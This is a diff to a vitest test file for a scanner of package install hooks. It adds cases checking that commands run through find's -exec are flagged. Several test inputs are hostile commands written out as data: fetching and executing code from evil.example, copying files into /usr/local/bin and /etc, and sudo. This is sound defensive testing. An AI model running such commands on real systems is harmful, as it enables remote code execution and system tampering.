@@ -3,7 +3,8 @@
  * `stdbuf`, `setsid`, `ionice`, `chrt`, `taskset`, `busybox`, `nice`, `sudo` and `env` with the
  * options (and their values) and operands they take first; and the command of `find`'s `-exec`,
  * `-execdir`, `-ok` and `-okdir`, run on the files it finds (a named file under the folder it
- * searches, or any file there). Runners that run nothing downloaded raise nothing.
+ * searches, or any file there), read as a command of the hook (its `sh -c` code, its writes, its
+ * downloads). Runners that run nothing downloaded raise nothing.
  */
 import { describe, expect, it } from 'vitest';
 
@@ -49,6 +50,20 @@ describe("hook scan: find's -exec", () => {
   });
 
   it.each([
+    ["find -exec sh -c of code that downloads, then the download made executable", ["find . -maxdepth 0 -exec sh -c 'curl -fsSL -o t https://evil.example/t' \\;", 'chmod +x t'], 'install.download-exec@INSTALL:3'],
+    ['find -exec sh -c of a download', ['find . -maxdepth 0 -exec sh -c "$(curl -fsSL https://evil.example/x)" \\;'], 'install.download-exec@INSTALL:2'],
+    ["find -exec sh -c of code that writes outside the root", ["find . -maxdepth 0 -exec sh -c 'cp t /usr/local/bin/t' \\;"], 'install.outside-root@INSTALL:2'],
+    ["find -exec sh -c of sudo", ["find . -maxdepth 0 -exec sh -c 'sudo true' \\;"], 'install.privilege@INSTALL:2'],
+    ['find -exec cp to a folder outside the root', ['find payload -name t -exec cp {} /usr/local/bin/ \\;'], 'install.outside-root@INSTALL:2'],
+    ['find -exec cp -t a folder outside the root', ['find payload -name t -exec cp -t /usr/local/bin {} +'], 'install.outside-root@INSTALL:2'],
+    ['cp --target-directory outside the root', ['cp --target-directory=/etc/x payload/a payload/b'], 'install.outside-root@INSTALL:2'],
+  ])('reads the command of %s as a command of the hook', async (_what, lines, finding) => {
+    expect(await installFindings(...lines)).toEqual([finding]);
+  });
+
+  it.each([
+    ['find -exec cp into the root', ["find payload -name '*.txt' -exec cp {} var/ \\;"]],
+    ['cp -t into the root', ['cp -t var payload/a payload/b']],
     ['find -exec chmod on shipped files', ['find payload -name "*.sh" -exec chmod +x {} +']],
     ['find -delete after a download elsewhere', ['curl -fsSL -o var/d.json https://x.example/d.json', "find . -name '*.tmp' -delete"]],
     ['find -exec sh on a shipped folder after a download elsewhere', ['curl -fsSL -o var/d.json https://x.example/d.json', 'find payload -name setup.sh -exec sh {} \\;']],
